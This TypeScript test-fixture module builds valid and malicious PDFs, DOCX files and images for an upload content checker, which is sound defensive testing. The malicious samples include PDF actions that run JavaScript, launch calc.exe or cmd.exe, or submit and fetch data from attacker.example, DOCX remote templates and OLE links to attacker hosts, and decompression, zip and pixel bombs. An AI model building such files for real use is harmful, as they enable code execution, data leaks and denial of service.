import { constants, deflateRawSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { tinyDocx, tinyPdf, zipOf } from '../helpers/files.ts';
import { pngWith } from '../helpers/images.ts';

/** Crafted files for the content checks: real valid ones, and each trick the checks refuse. */

const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A real PDF made by pdf-lib: one page of text, saved with object streams. */
export async function realPdf(change?: (document: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  page.drawText('Transcript of records', {
    x: 50,
    y: 700,
    font: await document.embedFont(StandardFonts.Helvetica),
  });
  await change?.(document);
  return Buffer.from(await document.save());
}

/** A PDF whose catalog opens with `action` (a pdf-lib dictionary literal). */
const openingWith = (action: Record<string, unknown>) =>
  realPdf((document) => {
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action as never));
  });

/** A PDF written by hand, with `objects` after a one-page catalog (object numbers from 4). */
function handPdf(catalogExtra: string, objects: string[]): Buffer {
  const base = [
    `<</Type/Catalog/Pages 2 0 R${catalogExtra}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>',
  ];
  const body = [...base, ...objects].map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${body}trailer\n<</Root 1 0 R>>\n%%EOF\n`, 'latin1');
}

/**
 * A PDF whose only object stream inflates to `megabytes` of spaces (a decompression bomb), built
 * without holding them: one sync-flushed deflate block of 1 MB repeated (each refers only to the
 * spaces before it), then an empty final block.
 */
export function objectStreamBomb(megabytes: number): Buffer {
  const flush = { finishFlush: constants.Z_SYNC_FLUSH };
  const first = deflateRawSync(Buffer.concat([Buffer.from('4 0 '), Buffer.alloc(1 << 20, 0x20)]), flush);
  const more = deflateRawSync(Buffer.alloc(1 << 20, 0x20), flush);
  const packed = Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    first,
    ...Array<Buffer>(megabytes - 1).fill(more),
    Buffer.from([0x03, 0x00, 0, 0, 0, 0]),
  ]);
  const head = handPdf('', [])
    .toString('latin1')
    .replace(/trailer[\s\S]*$/, '');
  return Buffer.concat([
    Buffer.from(
      `${head}5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
      'latin1',
    ),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n', 'latin1'),
  ]);
}

export const pdfs = {
  htmlAfterHeader: () =>
    Promise.resolve(
      Buffer.from('%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n'),
    ),
  noPages: () =>
    Promise.resolve(
      Buffer.from(tinyPdf().toString('latin1').replace('/Kids[3 0 R]/Count 1', '/Kids[]/Count 0'), 'latin1'),
    ),
  openJavaScript: () => openingWith({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  openUri: () => openingWith({ S: 'URI', URI: PDFString.of('http://attacker.example/pixel') }),
  openLaunch: () => openingWith({ S: 'Launch', F: PDFString.of('calc.exe') }),
  openRemoteFile: () =>
    openingWith({ S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\x.pdf'), D: [0, 'Fit'] }),
  openSubmitForm: () => openingWith({ S: 'SubmitForm', F: PDFString.of('http://attacker.example/') }),
  openImportData: () => openingWith({ S: 'ImportData', F: PDFString.of('http://attacker.example/data.fdf') }),
  documentJavaScript: () =>
    realPdf((document) => {
      const script = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') } as never);
      const names = document.context.obj({
        Names: [PDFString.of('x'), document.context.register(script)],
      } as never);
      document.catalog.set(PDFName.of('Names'), document.context.obj({ JavaScript: names } as never));
    }),
  pageOpenLaunch: () =>
    realPdf((document) => {
      const action = document.context.obj({ O: { S: 'Launch', F: PDFString.of('cmd.exe') } } as never);
      document.getPage(0).node.set(PDFName.of('AA'), action);
    }),
  xfaForm: () =>
    realPdf((document) => {
      document.catalog.set(
        PDFName.of('AcroForm'),
        document.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') } as never),
      );
    }),
  attachment: () =>
    realPdf(async (document) => {
      await document.attach(Buffer.from('MZ not really a program'), 'setup.exe', {
        mimeType: 'application/octet-stream',
      });
    }),
  passwordProtected: async () =>
    realPdf((document) => document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' })),
  // Hex escapes in a name ("#4c" is "L"): a reader decodes them, so must the check.
  escapedLaunch: () => Promise.resolve(handPdf('/OpenAction 4 0 R', ['<</S/#4caunch/F(calc.exe)>>'])),
  // Object 4 twice: a crafted cross-reference table can send a reader to the first, scripted one.
  shadowedScript: () =>
    Promise.resolve(
      handPdf('/OpenAction 4 0 R', ['<</S/JavaScript/JS(app.alert(1))>>', '<</S/GoTo/D[3 0 R/Fit]>>'])
        .toString('latin1')
        .replace('5 0 obj', '4 0 obj'),
    ).then((text) => Buffer.from(text, 'latin1')),
  // Valid ones.
  real: () => realPdf(),
  withClickableLink: () =>
    realPdf((document) => {
      const link = document.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [50, 50, 200, 70],
        A: { S: 'URI', URI: PDFString.of('https://university.example/verify') },
      } as never);
      document
        .getPage(0)
        .node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
    }),
  ownerPasswordOnly: () =>
    realPdf((document) => document.encrypt({ userPassword: '', ownerPassword: 'owner' })),
};

const relsOf = (...relationships: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`;
const relationship = (type: string, target: string, external = true) =>
  `<Relationship Id="rId${type.length}" Type="${RELS}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;

/** A real docx plus entries, with [Content_Types].xml optionally edited. */
function docxWith(extra: Record<string, string>, editTypes?: (types: string) => string): Buffer {
  if (!editTypes) return tinyDocx(extra);
  const types = editTypes(
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  );
  return tinyDocx({ ...extra, '[Content_Types].xml': types });
}

/** A docx whose central directory claims `bytes` unpacked for one entry (a zip bomb's shape). */
function claimingUnpacked(bytes: number): Buffer {
  const zip = tinyDocx({ 'word/media/big.bin': 'x' });
  const name = Buffer.from('word/media/big.bin');
  let at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  while (at >= 0 && !zip.subarray(at + 46, at + 46 + name.length).equals(name))
    at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), at + 4);
  zip.writeUInt32LE(bytes, at + 24);
  return zip;
}

export const docxs = {
  remoteTemplate: () =>
    docxWith({
      'word/_rels/settings.xml.rels': relsOf(
        relationship('attachedTemplate', 'http://attacker.example/t.dotm'),
      ),
    }),
  uncTemplate: () =>
    docxWith({
      'word/_rels/settings.xml.rels': relsOf(
        relationship('attachedTemplate', 'file://attacker.example/share/t.dotm'),
      ),
    }),
  vbaProject: () => docxWith({ 'word/vbaProject.bin': 'VBA' }),
  macroEnabledType: () =>
    docxWith({}, (types) =>
      types.replace(
        '</Types>',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      ),
    ),
  macroEnabledMain: () =>
    docxWith({}, (types) =>
      types.replace(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
    ),
  activeX: () =>
    docxWith({
      'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    }),
  externalImage: () =>
    docxWith({
      'word/_rels/document.xml.rels': relsOf(relationship('image', 'http://attacker.example/pixel.png')),
    }),
  externalFrame: () =>
    docxWith({
      'word/_rels/webSettings.xml.rels': relsOf(relationship('frame', 'http://attacker.example/frame.html')),
    }),
  externalSubDocument: () =>
    docxWith({
      'word/_rels/document.xml.rels': relsOf(relationship('subDocument', '\\\\attacker.example\\s\\x.docx')),
    }),
  linkedOleObject: () =>
    docxWith({
      'word/_rels/document.xml.rels': relsOf(relationship('oleObject', 'http://attacker.example/x.xlsx')),
    }),
  embeddedOleObject: () =>
    docxWith({
      'word/_rels/document.xml.rels': relsOf(relationship('oleObject', 'embeddings/oleObject1.bin', false)),
      'word/embeddings/oleObject1.bin': 'ole',
    }),
  entityExpansion: () =>
    docxWith({
      'word/_rels/document.xml.rels':
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships/>',
    }),
  noContentTypes: () =>
    zipOf({
      'word/document.xml':
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    }),
  noMainPart: () =>
    zipOf({
      '[Content_Types].xml':
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      'word/other.xml': '<x/>',
    }),
  tooManyParts: () =>
    docxWith(Object.fromEntries(Array.from({ length: 2001 }, (_, i) => [`word/media/p${i}.xml`, '<x/>']))),
  claimsHugeUnpacked: () => claimingUnpacked(0xfffffff0),
  // Valid ones.
  real: () => docxWith({}),
  withHyperlink: () =>
    docxWith({
      'word/_rels/document.xml.rels': relsOf(
        relationship('hyperlink', 'https://www.linkedin.com/in/student'),
      ),
    }),
  withLocalTemplate: () =>
    docxWith({
      'word/_rels/settings.xml.rels': relsOf(
        relationship(
          'attachedTemplate',
          'file:///C:\\Users\\student\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
        ),
      ),
    }),
};

export const images = {
  scriptAfterJpegHeader: () =>
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>')]),
  truncatedJpeg: async () => {
    const jpeg = await images.realJpeg();
    return jpeg.subarray(0, Math.floor(jpeg.length / 2));
  },
  corruptPng: async () => {
    const png = await images.realPng();
    const broken = Buffer.from(png);
    broken.fill(0x41, 60, 120); // inside the image data
    return broken;
  },
  // 30,000 × 30,000 declared in the header: 900 megapixels from a few bytes.
  pixelBomb: () => pngWith(30_000, 30_000),
  // Valid ones, made by sharp.
  realPng: () =>
    sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 40, g: 90, b: 160 } } })
      .png()
      .toBuffer(),
  realJpeg: () =>
    sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 120, b: 40 } } })
      .jpeg()
      .toBuffer(),
};
